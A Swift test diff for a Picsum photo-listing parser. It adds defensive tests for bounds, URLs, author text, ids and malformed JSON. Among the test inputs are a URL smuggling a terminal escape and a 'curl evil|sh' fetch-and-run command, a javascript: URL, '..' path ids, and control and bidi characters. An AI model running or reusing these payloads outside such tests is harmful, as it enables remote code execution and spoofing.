@@ -35,6 +35,8 @@ struct PicsumListingTests {
 
     @Test(arguments: [
         #""width":0,"height":5"#, #""width":-1,"height":5"#, #""width":1e300,"height":5"#, #""height":5"#,
+        #""width":65536,"height":5"#, #""width":2305843009213693952,"height":2305843009213693952"#,
+        #""width":"9999999999999999999999","height":5"#, #""width":1073741824,"height":1073741824.0"#,
     ])
     func aSizeThatCannotBeIsUnknown(fields: String) throws {
         let photo = try #require(try photo(#""id":"5","# + fields))
@@ -43,6 +45,39 @@ struct PicsumListingTests {
 
     @Test func onlyWebAddressesBecomeLinks() throws {
         #expect(try photo(#""id":"5","url":"javascript:alert(1)""#)?.link == nil)
+        #expect(try photo(#""id":"5","url":"https://h/\u001b[2J\u000acurl evil|sh""#)?.link == nil)
+        #expect(try photo(#""id":"5","url":"https://user@h/""#)?.link == nil)
+    }
+
+    @Test func anAuthorIsBoundedAndActsOnNothing() throws {
+        let long = String(repeating: "x", count: 1 << 20)
+        #expect(try photo(#""id":"5","author":"\#(long)""#)?.title.utf8.count == DisplayText.longestLine)
+        #expect(try photo(#""id":"5","author":"A\u001b[31m\u202eB\nC""#)?.title == "A[31mB C")
+        #expect(try photo(#""id":"5","author":"\#(String(repeating: " ", count: 1 << 20))""#)?.title == "Photo 5")
+    }
+
+    @Test func anIdThatNoAddressCanHoldIsPassedOver() throws {
+        let ids = ["..", ".", "a\\u0000", "a\\u202e", String(repeating: "9", count: PicsumListing.longestID + 1)]
+        let listing = try read("[" + ids.map { "{\"id\":\"\($0)\"}" }.joined(separator: ",") + #",{"id":"..."}]"#)
+        #expect(listing.photos.map(\.id.text) == ["..."] && listing.itemCount == 6)
+    }
+
+    /// A decoder's memory goes with the number of values, so that the first items are cut out before.
+    @Test func ofAnEndlessListTheFirstItemsAreRead() throws {
+        let many = Array(repeating: "{}", count: 1 << 20).joined(separator: ",")
+        let listing = try read(#"[{"id":"1","x":[1,{"y":"],[\\\",{"}]},"# + many + "]")
+        #expect(listing.itemCount == PicsumListing.mostItems && listing.photos.map(\.id.text) == ["1"])
+        #expect(try JSONListPrefix(Array("[[1,2],[3],4]".utf8), mostItems: 2).bytes.elementsEqual("[[1,2],[3]]".utf8))
+        #expect(try JSONListPrefix(Array("[1,2]".utf8), mostItems: 2).bytes.elementsEqual("[1,2]".utf8))
+    }
+
+    @Test func aListThatIsNestedWithoutEndIsMalformed() {
+        #expect(throws: LoadFailure.self) { try read(String(repeating: "[", count: 1 << 20)) }
+        #expect(throws: LoadFailure.self) { try read(String(repeating: #"[{"id":"#, count: 1 << 18)) }
+    }
+
+    @Test func aListAfterAByteOrderMarkIsRead() throws {
+        #expect(try PicsumListing(json: [0xEF, 0xBB, 0xBF] + Array(#"[{"id":"1"}]"#.utf8), title: "T").itemCount == 1)
     }
 
     @Test func itemsWithoutAnIdArePassedOverButCounted() throws {
